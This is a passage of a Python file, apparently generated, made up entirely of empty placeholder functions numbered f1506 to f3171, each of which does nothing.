def f1506(): pass
def f1507(): pass
def f1508(): pass
def f1509(): pass
def f1510(): pass
def f1511(): pass
def f1512(): pass
def f1513(): pass
def f1514(): pass
def f1515(): pass
def f1516(): pass
def f1517(): pass
def f1518(): pass
def f1519(): pass
def f1520(): pass
def f1521(): pass
def f1522(): pass
def f1523(): pass
def f1524(): pass
def f1525(): pass
def f1526(): pass
def f1527(): pass
def f1528(): pass
def f1529(): pass
def f1530(): pass
def f1531(): pass
def f1532(): pass
def f1533(): pass
def f1534(): pass
def f1535(): pass
def f1536(): pass
def f1537(): pass
def f1538(): pass
def f1539(): pass
def f1540(): pass
def f1541(): pass
def f1542(): pass
def f1543(): pass
def f1544(): pass
def f1545(): pass
def f1546(): pass
def f1547(): pass
def f1548(): pass
def f1549(): pass
def f1550(): pass
def f1551(): pass
def f1552(): pass
def f1553(): pass
def f1554(): pass
def f1555(): pass
def f1556(): pass
def f1557(): pass
def f1558(): pass
def f1559(): pass
def f1560(): pass
def f1561(): pass
def f1562(): pass
def f1563(): pass
def f1564(): pass
def f1565(): pass
def f1566(): pass
def f1567(): pass
def f1568(): pass
def f1569(): pass
def f1570(): pass
def f1571(): pass
def f1572(): pass
def f1573(): pass
def f1574(): pass
def f1575(): pass
def f1576(): pass
def f1577(): pass
def f1578(): pass
def f1579(): pass
def f1580(): pass
def f1581(): pass
def f1582(): pass
def f1583(): pass
def f1584(): pass
def f1585(): pass
def f1586(): pass
def f1587(): pass
def f1588(): pass
def f1589(): pass
def f1590(): pass
def f1591(): pass
def f1592(): pass
def f1593(): pass
def f1594(): pass
def f1595(): pass
def f1596(): pass
def f1597(): pass
def f1598(): pass
def f1599(): pass
def f1600(): pass
def f1601(): pass
def f1602(): pass
def f1603(): pass
def f1604(): pass
def f1605(): pass
def f1606(): pass
def f1607(): pass
def f1608(): pass
def f1609(): pass
def f1610(): pass
def f1611(): pass
def f1612(): pass
def f1613(): pass
def f1614(): pass
def f1615(): pass
def f1616(): pass
def f1617(): pass
def f1618(): pass
def f1619(): pass
def f1620(): pass
def f1621(): pass
def f1622(): pass
def f1623(): pass
def f1624(): pass
def f1625(): pass
def f1626(): pass
def f1627(): pass
def f1628(): pass
def f1629(): pass
def f1630(): pass
def f1631(): pass
def f1632(): pass
def f1633(): pass
def f1634(): pass
def f1635(): pass
def f1636(): pass
def f1637(): pass
def f1638(): pass
def f1639(): pass
def f1640(): pass
def f1641(): pass
def f1642(): pass
def f1643(): pass
def f1644(): pass
def f1645(): pass
def f1646(): pass
def f1647(): pass
def f1648(): pass
def f1649(): pass
def f1650(): pass
def f1651(): pass
def f1652(): pass
def f1653(): pass
def f1654(): pass
def f1655(): pass
def f1656(): pass
def f1657(): pass
def f1658(): pass
def f1659(): pass
def f1660(): pass
def f1661(): pass
def f1662(): pass
def f1663(): pass
def f1664(): pass
def f1665(): pass
def f1666(): pass
def f1667(): pass
def f1668(): pass
def f1669(): pass
def f1670(): pass
def f1671(): pass
def f1672(): pass
def f1673(): pass
def f1674(): pass
def f1675(): pass
def f1676(): pass
def f1677(): pass
def f1678(): pass
def f1679(): pass
def f1680(): pass
def f1681(): pass
def f1682(): pass
def f1683(): pass
def f1684(): pass
def f1685(): pass
def f1686(): pass
def f1687(): pass
def f1688(): pass
def f1689(): pass
def f1690(): pass
def f1691(): pass
def f1692(): pass
def f1693(): pass
def f1694(): pass
def f1695(): pass
def f1696(): pass
def f1697(): pass
def f1698(): pass
def f1699(): pass
def f1700(): pass
def f1701(): pass
def f1702(): pass
def f1703(): pass
def f1704(): pass
def f1705(): pass
def f1706(): pass
def f1707(): pass
def f1708(): pass
def f1709(): pass
def f1710(): pass
def f1711(): pass
def f1712(): pass
def f1713(): pass
def f1714(): pass
def f1715(): pass
def f1716(): pass
def f1717(): pass
def f1718(): pass
def f1719(): pass
def f1720(): pass
def f1721(): pass
def f1722(): pass
def f1723(): pass
def f1724(): pass
def f1725(): pass
def f1726(): pass
def f1727(): pass
def f1728(): pass
def f1729(): pass
def f1730(): pass
def f1731(): pass
def f1732(): pass
def f1733(): pass
def f1734(): pass
def f1735(): pass
def f1736(): pass
def f1737(): pass
def f1738(): pass
def f1739(): pass
def f1740(): pass
def f1741(): pass
def f1742(): pass
def f1743(): pass
def f1744(): pass
def f1745(): pass
def f1746(): pass
def f1747(): pass
def f1748(): pass
def f1749(): pass
def f1750(): pass
def f1751(): pass
def f1752(): pass
def f1753(): pass
def f1754(): pass
def f1755(): pass
def f1756(): pass
def f1757(): pass
def f1758(): pass
def f1759(): pass
def f1760(): pass
def f1761(): pass
def f1762(): pass
def f1763(): pass
def f1764(): pass
def f1765(): pass
def f1766(): pass
def f1767(): pass
def f1768(): pass
def f1769(): pass
def f1770(): pass
def f1771(): pass
def f1772(): pass
def f1773(): pass
def f1774(): pass
def f1775(): pass
def f1776(): pass
def f1777(): pass
def f1778(): pass
def f1779(): pass
def f1780(): pass
def f1781(): pass
def f1782(): pass
def f1783(): pass
def f1784(): pass
def f1785(): pass
def f1786(): pass
def f1787(): pass
def f1788(): pass
def f1789(): pass
def f1790(): pass
def f1791(): pass
def f1792(): pass
def f1793(): pass
def f1794(): pass
def f1795(): pass
def f1796(): pass
def f1797(): pass
def f1798(): pass
def f1799(): pass
def f1800(): pass
def f1801(): pass
def f1802(): pass
def f1803(): pass
def f1804(): pass
def f1805(): pass
def f1806(): pass
def f1807(): pass
def f1808(): pass
def f1809(): pass
def f1810(): pass
def f1811(): pass
def f1812(): pass
def f1813(): pass
def f1814(): pass
def f1815(): pass
def f1816(): pass
def f1817(): pass
def f1818(): pass
def f1819(): pass
def f1820(): pass
def f1821(): pass
def f1822(): pass
def f1823(): pass
def f1824(): pass
def f1825(): pass
def f1826(): pass
def f1827(): pass
def f1828(): pass
def f1829(): pass
def f1830(): pass
def f1831(): pass
def f1832(): pass
def f1833(): pass
def f1834(): pass
def f1835(): pass
def f1836(): pass
def f1837(): pass
def f1838(): pass
def f1839(): pass
def f1840(): pass
def f1841(): pass
def f1842(): pass
def f1843(): pass
def f1844(): pass
def f1845(): pass
def f1846(): pass
def f1847(): pass
def f1848(): pass
def f1849(): pass
def f1850(): pass
def f1851(): pass
def f1852(): pass
def f1853(): pass
def f1854(): pass
def f1855(): pass
def f1856(): pass
def f1857(): pass
def f1858(): pass
def f1859(): pass
def f1860(): pass
def f1861(): pass
def f1862(): pass
def f1863(): pass
def f1864(): pass
def f1865(): pass
def f1866(): pass
def f1867(): pass
def f1868(): pass
def f1869(): pass
def f1870(): pass
def f1871(): pass
def f1872(): pass
def f1873(): pass
def f1874(): pass
def f1875(): pass
def f1876(): pass
def f1877(): pass
def f1878(): pass
def f1879(): pass
def f1880(): pass
def f1881(): pass
def f1882(): pass
def f1883(): pass
def f1884(): pass
def f1885(): pass
def f1886(): pass
def f1887(): pass
def f1888(): pass
def f1889(): pass
def f1890(): pass
def f1891(): pass
def f1892(): pass
def f1893(): pass
def f1894(): pass
def f1895(): pass
def f1896(): pass
def f1897(): pass
def f1898(): pass
def f1899(): pass
def f1900(): pass
def f1901(): pass
def f1902(): pass
def f1903(): pass
def f1904(): pass
def f1905(): pass
def f1906(): pass
def f1907(): pass
def f1908(): pass
def f1909(): pass
def f1910(): pass
def f1911(): pass
def f1912(): pass
def f1913(): pass
def f1914(): pass
def f1915(): pass
def f1916(): pass
def f1917(): pass
def f1918(): pass
def f1919(): pass
def f1920(): pass
def f1921(): pass
def f1922(): pass
def f1923(): pass
def f1924(): pass
def f1925(): pass
def f1926(): pass
def f1927(): pass
def f1928(): pass
def f1929(): pass
def f1930(): pass
def f1931(): pass
def f1932(): pass
def f1933(): pass
def f1934(): pass
def f1935(): pass
def f1936(): pass
def f1937(): pass
def f1938(): pass
def f1939(): pass
def f1940(): pass
def f1941(): pass
def f1942(): pass
def f1943(): pass
def f1944(): pass
def f1945(): pass
def f1946(): pass
def f1947(): pass
def f1948(): pass
def f1949(): pass
def f1950(): pass
def f1951(): pass
def f1952(): pass
def f1953(): pass
def f1954(): pass
def f1955(): pass
def f1956(): pass
def f1957(): pass
def f1958(): pass
def f1959(): pass
def f1960(): pass
def f1961(): pass
def f1962(): pass
def f1963(): pass
def f1964(): pass
def f1965(): pass
def f1966(): pass
def f1967(): pass
def f1968(): pass
def f1969(): pass
def f1970(): pass
def f1971(): pass
def f1972(): pass
def f1973(): pass
def f1974(): pass
def f1975(): pass
def f1976(): pass
def f1977(): pass
def f1978(): pass
def f1979(): pass
def f1980(): pass
def f1981(): pass
def f1982(): pass
def f1983(): pass
def f1984(): pass
def f1985(): pass
def f1986(): pass
def f1987(): pass
def f1988(): pass
def f1989(): pass
def f1990(): pass
def f1991(): pass
def f1992(): pass
def f1993(): pass
def f1994(): pass
def f1995(): pass
def f1996(): pass
def f1997(): pass
def f1998(): pass
def f1999(): pass
def f2000(): pass
def f2001(): pass
def f2002(): pass
def f2003(): pass
def f2004(): pass
def f2005(): pass
def f2006(): pass
def f2007(): pass
def f2008(): pass
def f2009(): pass
def f2010(): pass
def f2011(): pass
def f2012(): pass
def f2013(): pass
def f2014(): pass
def f2015(): pass
def f2016(): pass
def f2017(): pass
def f2018(): pass
def f2019(): pass
def f2020(): pass
def f2021(): pass
def f2022(): pass
def f2023(): pass
def f2024(): pass
def f2025(): pass
def f2026(): pass
def f2027(): pass
def f2028(): pass
def f2029(): pass
def f2030(): pass
def f2031(): pass
def f2032(): pass
def f2033(): pass
def f2034(): pass
def f2035(): pass
def f2036(): pass
def f2037(): pass
def f2038(): pass
def f2039(): pass
def f2040(): pass
def f2041(): pass
def f2042(): pass
def f2043(): pass
def f2044(): pass
def f2045(): pass
def f2046(): pass
def f2047(): pass
def f2048(): pass
def f2049(): pass
def f2050(): pass
def f2051(): pass
def f2052(): pass
def f2053(): pass
def f2054(): pass
def f2055(): pass
def f2056(): pass
def f2057(): pass
def f2058(): pass
def f2059(): pass
def f2060(): pass
def f2061(): pass
def f2062(): pass
def f2063(): pass
def f2064(): pass
def f2065(): pass
def f2066(): pass
def f2067(): pass
def f2068(): pass
def f2069(): pass
def f2070(): pass
def f2071(): pass
def f2072(): pass
def f2073(): pass
def f2074(): pass
def f2075(): pass
def f2076(): pass
def f2077(): pass
def f2078(): pass
def f2079(): pass
def f2080(): pass
def f2081(): pass
def f2082(): pass
def f2083(): pass
def f2084(): pass
def f2085(): pass
def f2086(): pass
def f2087(): pass
def f2088(): pass
def f2089(): pass
def f2090(): pass
def f2091(): pass
def f2092(): pass
def f2093(): pass
def f2094(): pass
def f2095(): pass
def f2096(): pass
def f2097(): pass
def f2098(): pass
def f2099(): pass
def f2100(): pass
def f2101(): pass
def f2102(): pass
def f2103(): pass
def f2104(): pass
def f2105(): pass
def f2106(): pass
def f2107(): pass
def f2108(): pass
def f2109(): pass
def f2110(): pass
def f2111(): pass
def f2112(): pass
def f2113(): pass
def f2114(): pass
def f2115(): pass
def f2116(): pass
def f2117(): pass
def f2118(): pass
def f2119(): pass
def f2120(): pass
def f2121(): pass
def f2122(): pass
def f2123(): pass
def f2124(): pass
def f2125(): pass
def f2126(): pass
def f2127(): pass
def f2128(): pass
def f2129(): pass
def f2130(): pass
def f2131(): pass
def f2132(): pass
def f2133(): pass
def f2134(): pass
def f2135(): pass
def f2136(): pass
def f2137(): pass
def f2138(): pass
def f2139(): pass
def f2140(): pass
def f2141(): pass
def f2142(): pass
def f2143(): pass
def f2144(): pass
def f2145(): pass
def f2146(): pass
def f2147(): pass
def f2148(): pass
def f2149(): pass
def f2150(): pass
def f2151(): pass
def f2152(): pass
def f2153(): pass
def f2154(): pass
def f2155(): pass
def f2156(): pass
def f2157(): pass
def f2158(): pass
def f2159(): pass
def f2160(): pass
def f2161(): pass
def f2162(): pass
def f2163(): pass
def f2164(): pass
def f2165(): pass
def f2166(): pass
def f2167(): pass
def f2168(): pass
def f2169(): pass
def f2170(): pass
def f2171(): pass
def f2172(): pass
def f2173(): pass
def f2174(): pass
def f2175(): pass
def f2176(): pass
def f2177(): pass
def f2178(): pass
def f2179(): pass
def f2180(): pass
def f2181(): pass
def f2182(): pass
def f2183(): pass
def f2184(): pass
def f2185(): pass
def f2186(): pass
def f2187(): pass
def f2188(): pass
def f2189(): pass
def f2190(): pass
def f2191(): pass
def f2192(): pass
def f2193(): pass
def f2194(): pass
def f2195(): pass
def f2196(): pass
def f2197(): pass
def f2198(): pass
def f2199(): pass
def f2200(): pass
def f2201(): pass
def f2202(): pass
def f2203(): pass
def f2204(): pass
def f2205(): pass
def f2206(): pass
def f2207(): pass
def f2208(): pass
def f2209(): pass
def f2210(): pass
def f2211(): pass
def f2212(): pass
def f2213(): pass
def f2214(): pass
def f2215(): pass
def f2216(): pass
def f2217(): pass
def f2218(): pass
def f2219(): pass
def f2220(): pass
def f2221(): pass
def f2222(): pass
def f2223(): pass
def f2224(): pass
def f2225(): pass
def f2226(): pass
def f2227(): pass
def f2228(): pass
def f2229(): pass
def f2230(): pass
def f2231(): pass
def f2232(): pass
def f2233(): pass
def f2234(): pass
def f2235(): pass
def f2236(): pass
def f2237(): pass
def f2238(): pass
def f2239(): pass
def f2240(): pass
def f2241(): pass
def f2242(): pass
def f2243(): pass
def f2244(): pass
def f2245(): pass
def f2246(): pass
def f2247(): pass
def f2248(): pass
def f2249(): pass
def f2250(): pass
def f2251(): pass
def f2252(): pass
def f2253(): pass
def f2254(): pass
def f2255(): pass
def f2256(): pass
def f2257(): pass
def f2258(): pass
def f2259(): pass
def f2260(): pass
def f2261(): pass
def f2262(): pass
def f2263(): pass
def f2264(): pass
def f2265(): pass
def f2266(): pass
def f2267(): pass
def f2268(): pass
def f2269(): pass
def f2270(): pass
def f2271(): pass
def f2272(): pass
def f2273(): pass
def f2274(): pass
def f2275(): pass
def f2276(): pass
def f2277(): pass
def f2278(): pass
def f2279(): pass
def f2280(): pass
def f2281(): pass
def f2282(): pass
def f2283(): pass
def f2284(): pass
def f2285(): pass
def f2286(): pass
def f2287(): pass
def f2288(): pass
def f2289(): pass
def f2290(): pass
def f2291(): pass
def f2292(): pass
def f2293(): pass
def f2294(): pass
def f2295(): pass
def f2296(): pass
def f2297(): pass
def f2298(): pass
def f2299(): pass
def f2300(): pass
def f2301(): pass
def f2302(): pass
def f2303(): pass
def f2304(): pass
def f2305(): pass
def f2306(): pass
def f2307(): pass
def f2308(): pass
def f2309(): pass
def f2310(): pass
def f2311(): pass
def f2312(): pass
def f2313(): pass
def f2314(): pass
def f2315(): pass
def f2316(): pass
def f2317(): pass
def f2318(): pass
def f2319(): pass
def f2320(): pass
def f2321(): pass
def f2322(): pass
def f2323(): pass
def f2324(): pass
def f2325(): pass
def f2326(): pass
def f2327(): pass
def f2328(): pass
def f2329(): pass
def f2330(): pass
def f2331(): pass
def f2332(): pass
def f2333(): pass
def f2334(): pass
def f2335(): pass
def f2336(): pass
def f2337(): pass
def f2338(): pass
def f2339(): pass
def f2340(): pass
def f2341(): pass
def f2342(): pass
def f2343(): pass
def f2344(): pass
def f2345(): pass
def f2346(): pass
def f2347(): pass
def f2348(): pass
def f2349(): pass
def f2350(): pass
def f2351(): pass
def f2352(): pass
def f2353(): pass
def f2354(): pass
def f2355(): pass
def f2356(): pass
def f2357(): pass
def f2358(): pass
def f2359(): pass
def f2360(): pass
def f2361(): pass
def f2362(): pass
def f2363(): pass
def f2364(): pass
def f2365(): pass
def f2366(): pass
def f2367(): pass
def f2368(): pass
def f2369(): pass
def f2370(): pass
def f2371(): pass
def f2372(): pass
def f2373(): pass
def f2374(): pass
def f2375(): pass
def f2376(): pass
def f2377(): pass
def f2378(): pass
def f2379(): pass
def f2380(): pass
def f2381(): pass
def f2382(): pass
def f2383(): pass
def f2384(): pass
def f2385(): pass
def f2386(): pass
def f2387(): pass
def f2388(): pass
def f2389(): pass
def f2390(): pass
def f2391(): pass
def f2392(): pass
def f2393(): pass
def f2394(): pass
def f2395(): pass
def f2396(): pass
def f2397(): pass
def f2398(): pass
def f2399(): pass
def f2400(): pass
def f2401(): pass
def f2402(): pass
def f2403(): pass
def f2404(): pass
def f2405(): pass
def f2406(): pass
def f2407(): pass
def f2408(): pass
def f2409(): pass
def f2410(): pass
def f2411(): pass
def f2412(): pass
def f2413(): pass
def f2414(): pass
def f2415(): pass
def f2416(): pass
def f2417(): pass
def f2418(): pass
def f2419(): pass
def f2420(): pass
def f2421(): pass
def f2422(): pass
def f2423(): pass
def f2424(): pass
def f2425(): pass
def f2426(): pass
def f2427(): pass
def f2428(): pass
def f2429(): pass
def f2430(): pass
def f2431(): pass
def f2432(): pass
def f2433(): pass
def f2434(): pass
def f2435(): pass
def f2436(): pass
def f2437(): pass
def f2438(): pass
def f2439(): pass
def f2440(): pass
def f2441(): pass
def f2442(): pass
def f2443(): pass
def f2444(): pass
def f2445(): pass
def f2446(): pass
def f2447(): pass
def f2448(): pass
def f2449(): pass
def f2450(): pass
def f2451(): pass
def f2452(): pass
def f2453(): pass
def f2454(): pass
def f2455(): pass
def f2456(): pass
def f2457(): pass
def f2458(): pass
def f2459(): pass
def f2460(): pass
def f2461(): pass
def f2462(): pass
def f2463(): pass
def f2464(): pass
def f2465(): pass
def f2466(): pass
def f2467(): pass
def f2468(): pass
def f2469(): pass
def f2470(): pass
def f2471(): pass
def f2472(): pass
def f2473(): pass
def f2474(): pass
def f2475(): pass
def f2476(): pass
def f2477(): pass
def f2478(): pass
def f2479(): pass
def f2480(): pass
def f2481(): pass
def f2482(): pass
def f2483(): pass
def f2484(): pass
def f2485(): pass
def f2486(): pass
def f2487(): pass
def f2488(): pass
def f2489(): pass
def f2490(): pass
def f2491(): pass
def f2492(): pass
def f2493(): pass
def f2494(): pass
def f2495(): pass
def f2496(): pass
def f2497(): pass
def f2498(): pass
def f2499(): pass
def f2500(): pass
def f2501(): pass
def f2502(): pass
def f2503(): pass
def f2504(): pass
def f2505(): pass
def f2506(): pass
def f2507(): pass
def f2508(): pass
def f2509(): pass
def f2510(): pass
def f2511(): pass
def f2512(): pass
def f2513(): pass
def f2514(): pass
def f2515(): pass
def f2516(): pass
def f2517(): pass
def f2518(): pass
def f2519(): pass
def f2520(): pass
def f2521(): pass
def f2522(): pass
def f2523(): pass
def f2524(): pass
def f2525(): pass
def f2526(): pass
def f2527(): pass
def f2528(): pass
def f2529(): pass
def f2530(): pass
def f2531(): pass
def f2532(): pass
def f2533(): pass
def f2534(): pass
def f2535(): pass
def f2536(): pass
def f2537(): pass
def f2538(): pass
def f2539(): pass
def f2540(): pass
def f2541(): pass
def f2542(): pass
def f2543(): pass
def f2544(): pass
def f2545(): pass
def f2546(): pass
def f2547(): pass
def f2548(): pass
def f2549(): pass
def f2550(): pass
def f2551(): pass
def f2552(): pass
def f2553(): pass
def f2554(): pass
def f2555(): pass
def f2556(): pass
def f2557(): pass
def f2558(): pass
def f2559(): pass
def f2560(): pass
def f2561(): pass
def f2562(): pass
def f2563(): pass
def f2564(): pass
def f2565(): pass
def f2566(): pass
def f2567(): pass
def f2568(): pass
def f2569(): pass
def f2570(): pass
def f2571(): pass
def f2572(): pass
def f2573(): pass
def f2574(): pass
def f2575(): pass
def f2576(): pass
def f2577(): pass
def f2578(): pass
def f2579(): pass
def f2580(): pass
def f2581(): pass
def f2582(): pass
def f2583(): pass
def f2584(): pass
def f2585(): pass
def f2586(): pass
def f2587(): pass
def f2588(): pass
def f2589(): pass
def f2590(): pass
def f2591(): pass
def f2592(): pass
def f2593(): pass
def f2594(): pass
def f2595(): pass
def f2596(): pass
def f2597(): pass
def f2598(): pass
def f2599(): pass
def f2600(): pass
def f2601(): pass
def f2602(): pass
def f2603(): pass
def f2604(): pass
def f2605(): pass
def f2606(): pass
def f2607(): pass
def f2608(): pass
def f2609(): pass
def f2610(): pass
def f2611(): pass
def f2612(): pass
def f2613(): pass
def f2614(): pass
def f2615(): pass
def f2616(): pass
def f2617(): pass
def f2618(): pass
def f2619(): pass
def f2620(): pass
def f2621(): pass
def f2622(): pass
def f2623(): pass
def f2624(): pass
def f2625(): pass
def f2626(): pass
def f2627(): pass
def f2628(): pass
def f2629(): pass
def f2630(): pass
def f2631(): pass
def f2632(): pass
def f2633(): pass
def f2634(): pass
def f2635(): pass
def f2636(): pass
def f2637(): pass
def f2638(): pass
def f2639(): pass
def f2640(): pass
def f2641(): pass
def f2642(): pass
def f2643(): pass
def f2644(): pass
def f2645(): pass
def f2646(): pass
def f2647(): pass
def f2648(): pass
def f2649(): pass
def f2650(): pass
def f2651(): pass
def f2652(): pass
def f2653(): pass
def f2654(): pass
def f2655(): pass
def f2656(): pass
def f2657(): pass
def f2658(): pass
def f2659(): pass
def f2660(): pass
def f2661(): pass
def f2662(): pass
def f2663(): pass
def f2664(): pass
def f2665(): pass
def f2666(): pass
def f2667(): pass
def f2668(): pass
def f2669(): pass
def f2670(): pass
def f2671(): pass
def f2672(): pass
def f2673(): pass
def f2674(): pass
def f2675(): pass
def f2676(): pass
def f2677(): pass
def f2678(): pass
def f2679(): pass
def f2680(): pass
def f2681(): pass
def f2682(): pass
def f2683(): pass
def f2684(): pass
def f2685(): pass
def f2686(): pass
def f2687(): pass
def f2688(): pass
def f2689(): pass
def f2690(): pass
def f2691(): pass
def f2692(): pass
def f2693(): pass
def f2694(): pass
def f2695(): pass
def f2696(): pass
def f2697(): pass
def f2698(): pass
def f2699(): pass
def f2700(): pass
def f2701(): pass
def f2702(): pass
def f2703(): pass
def f2704(): pass
def f2705(): pass
def f2706(): pass
def f2707(): pass
def f2708(): pass
def f2709(): pass
def f2710(): pass
def f2711(): pass
def f2712(): pass
def f2713(): pass
def f2714(): pass
def f2715(): pass
def f2716(): pass
def f2717(): pass
def f2718(): pass
def f2719(): pass
def f2720(): pass
def f2721(): pass
def f2722(): pass
def f2723(): pass
def f2724(): pass
def f2725(): pass
def f2726(): pass
def f2727(): pass
def f2728(): pass
def f2729(): pass
def f2730(): pass
def f2731(): pass
def f2732(): pass
def f2733(): pass
def f2734(): pass
def f2735(): pass
def f2736(): pass
def f2737(): pass
def f2738(): pass
def f2739(): pass
def f2740(): pass
def f2741(): pass
def f2742(): pass
def f2743(): pass
def f2744(): pass
def f2745(): pass
def f2746(): pass
def f2747(): pass
def f2748(): pass
def f2749(): pass
def f2750(): pass
def f2751(): pass
def f2752(): pass
def f2753(): pass
def f2754(): pass
def f2755(): pass
def f2756(): pass
def f2757(): pass
def f2758(): pass
def f2759(): pass
def f2760(): pass
def f2761(): pass
def f2762(): pass
def f2763(): pass
def f2764(): pass
def f2765(): pass
def f2766(): pass
def f2767(): pass
def f2768(): pass
def f2769(): pass
def f2770(): pass
def f2771(): pass
def f2772(): pass
def f2773(): pass
def f2774(): pass
def f2775(): pass
def f2776(): pass
def f2777(): pass
def f2778(): pass
def f2779(): pass
def f2780(): pass
def f2781(): pass
def f2782(): pass
def f2783(): pass
def f2784(): pass
def f2785(): pass
def f2786(): pass
def f2787(): pass
def f2788(): pass
def f2789(): pass
def f2790(): pass
def f2791(): pass
def f2792(): pass
def f2793(): pass
def f2794(): pass
def f2795(): pass
def f2796(): pass
def f2797(): pass
def f2798(): pass
def f2799(): pass
def f2800(): pass
def f2801(): pass
def f2802(): pass
def f2803(): pass
def f2804(): pass
def f2805(): pass
def f2806(): pass
def f2807(): pass
def f2808(): pass
def f2809(): pass
def f2810(): pass
def f2811(): pass
def f2812(): pass
def f2813(): pass
def f2814(): pass
def f2815(): pass
def f2816(): pass
def f2817(): pass
def f2818(): pass
def f2819(): pass
def f2820(): pass
def f2821(): pass
def f2822(): pass
def f2823(): pass
def f2824(): pass
def f2825(): pass
def f2826(): pass
def f2827(): pass
def f2828(): pass
def f2829(): pass
def f2830(): pass
def f2831(): pass
def f2832(): pass
def f2833(): pass
def f2834(): pass
def f2835(): pass
def f2836(): pass
def f2837(): pass
def f2838(): pass
def f2839(): pass
def f2840(): pass
def f2841(): pass
def f2842(): pass
def f2843(): pass
def f2844(): pass
def f2845(): pass
def f2846(): pass
def f2847(): pass
def f2848(): pass
def f2849(): pass
def f2850(): pass
def f2851(): pass
def f2852(): pass
def f2853(): pass
def f2854(): pass
def f2855(): pass
def f2856(): pass
def f2857(): pass
def f2858(): pass
def f2859(): pass
def f2860(): pass
def f2861(): pass
def f2862(): pass
def f2863(): pass
def f2864(): pass
def f2865(): pass
def f2866(): pass
def f2867(): pass
def f2868(): pass
def f2869(): pass
def f2870(): pass
def f2871(): pass
def f2872(): pass
def f2873(): pass
def f2874(): pass
def f2875(): pass
def f2876(): pass
def f2877(): pass
def f2878(): pass
def f2879(): pass
def f2880(): pass
def f2881(): pass
def f2882(): pass
def f2883(): pass
def f2884(): pass
def f2885(): pass
def f2886(): pass
def f2887(): pass
def f2888(): pass
def f2889(): pass
def f2890(): pass
def f2891(): pass
def f2892(): pass
def f2893(): pass
def f2894(): pass
def f2895(): pass
def f2896(): pass
def f2897(): pass
def f2898(): pass
def f2899(): pass
def f2900(): pass
def f2901(): pass
def f2902(): pass
def f2903(): pass
def f2904(): pass
def f2905(): pass
def f2906(): pass
def f2907(): pass
def f2908(): pass
def f2909(): pass
def f2910(): pass
def f2911(): pass
def f2912(): pass
def f2913(): pass
def f2914(): pass
def f2915(): pass
def f2916(): pass
def f2917(): pass
def f2918(): pass
def f2919(): pass
def f2920(): pass
def f2921(): pass
def f2922(): pass
def f2923(): pass
def f2924(): pass
def f2925(): pass
def f2926(): pass
def f2927(): pass
def f2928(): pass
def f2929(): pass
def f2930(): pass
def f2931(): pass
def f2932(): pass
def f2933(): pass
def f2934(): pass
def f2935(): pass
def f2936(): pass
def f2937(): pass
def f2938(): pass
def f2939(): pass
def f2940(): pass
def f2941(): pass
def f2942(): pass
def f2943(): pass
def f2944(): pass
def f2945(): pass
def f2946(): pass
def f2947(): pass
def f2948(): pass
def f2949(): pass
def f2950(): pass
def f2951(): pass
def f2952(): pass
def f2953(): pass
def f2954(): pass
def f2955(): pass
def f2956(): pass
def f2957(): pass
def f2958(): pass
def f2959(): pass
def f2960(): pass
def f2961(): pass
def f2962(): pass
def f2963(): pass
def f2964(): pass
def f2965(): pass
def f2966(): pass
def f2967(): pass
def f2968(): pass
def f2969(): pass
def f2970(): pass
def f2971(): pass
def f2972(): pass
def f2973(): pass
def f2974(): pass
def f2975(): pass
def f2976(): pass
def f2977(): pass
def f2978(): pass
def f2979(): pass
def f2980(): pass
def f2981(): pass
def f2982(): pass
def f2983(): pass
def f2984(): pass
def f2985(): pass
def f2986(): pass
def f2987(): pass
def f2988(): pass
def f2989(): pass
def f2990(): pass
def f2991(): pass
def f2992(): pass
def f2993(): pass
def f2994(): pass
def f2995(): pass
def f2996(): pass
def f2997(): pass
def f2998(): pass
def f2999(): pass
def f3000(): pass
def f3001(): pass
def f3002(): pass
def f3003(): pass
def f3004(): pass
def f3005(): pass
def f3006(): pass
def f3007(): pass
def f3008(): pass
def f3009(): pass
def f3010(): pass
def f3011(): pass
def f3012(): pass
def f3013(): pass
def f3014(): pass
def f3015(): pass
def f3016(): pass
def f3017(): pass
def f3018(): pass
def f3019(): pass
def f3020(): pass
def f3021(): pass
def f3022(): pass
def f3023(): pass
def f3024(): pass
def f3025(): pass
def f3026(): pass
def f3027(): pass
def f3028(): pass
def f3029(): pass
def f3030(): pass
def f3031(): pass
def f3032(): pass
def f3033(): pass
def f3034(): pass
def f3035(): pass
def f3036(): pass
def f3037(): pass
def f3038(): pass
def f3039(): pass
def f3040(): pass
def f3041(): pass
def f3042(): pass
def f3043(): pass
def f3044(): pass
def f3045(): pass
def f3046(): pass
def f3047(): pass
def f3048(): pass
def f3049(): pass
def f3050(): pass
def f3051(): pass
def f3052(): pass
def f3053(): pass
def f3054(): pass
def f3055(): pass
def f3056(): pass
def f3057(): pass
def f3058(): pass
def f3059(): pass
def f3060(): pass
def f3061(): pass
def f3062(): pass
def f3063(): pass
def f3064(): pass
def f3065(): pass
def f3066(): pass
def f3067(): pass
def f3068(): pass
def f3069(): pass
def f3070(): pass
def f3071(): pass
def f3072(): pass
def f3073(): pass
def f3074(): pass
def f3075(): pass
def f3076(): pass
def f3077(): pass
def f3078(): pass
def f3079(): pass
def f3080(): pass
def f3081(): pass
def f3082(): pass
def f3083(): pass
def f3084(): pass
def f3085(): pass
def f3086(): pass
def f3087(): pass
def f3088(): pass
def f3089(): pass
def f3090(): pass
def f3091(): pass
def f3092(): pass
def f3093(): pass
def f3094(): pass
def f3095(): pass
def f3096(): pass
def f3097(): pass
def f3098(): pass
def f3099(): pass
def f3100(): pass
def f3101(): pass
def f3102(): pass
def f3103(): pass
def f3104(): pass
def f3105(): pass
def f3106(): pass
def f3107(): pass
def f3108(): pass
def f3109(): pass
def f3110(): pass
def f3111(): pass
def f3112(): pass
def f3113(): pass
def f3114(): pass
def f3115(): pass
def f3116(): pass
def f3117(): pass
def f3118(): pass
def f3119(): pass
def f3120(): pass
def f3121(): pass
def f3122(): pass
def f3123(): pass
def f3124(): pass
def f3125(): pass
def f3126(): pass
def f3127(): pass
def f3128(): pass
def f3129(): pass
def f3130(): pass
def f3131(): pass
def f3132(): pass
def f3133(): pass
def f3134(): pass
def f3135(): pass
def f3136(): pass
def f3137(): pass
def f3138(): pass
def f3139(): pass
def f3140(): pass
def f3141(): pass
def f3142(): pass
def f3143(): pass
def f3144(): pass
def f3145(): pass
def f3146(): pass
def f3147(): pass
def f3148(): pass
def f3149(): pass
def f3150(): pass
def f3151(): pass
def f3152(): pass
def f3153(): pass
def f3154(): pass
def f3155(): pass
def f3156(): pass
def f3157(): pass
def f3158(): pass
def f3159(): pass
def f3160(): pass
def f3161(): pass
def f3162(): pass
def f3163(): pass
def f3164(): pass
def f3165(): pass
def f3166(): pass
def f3167(): pass
def f3168(): pass
def f3169(): pass
def f3170(): pass
def f3171(): pass
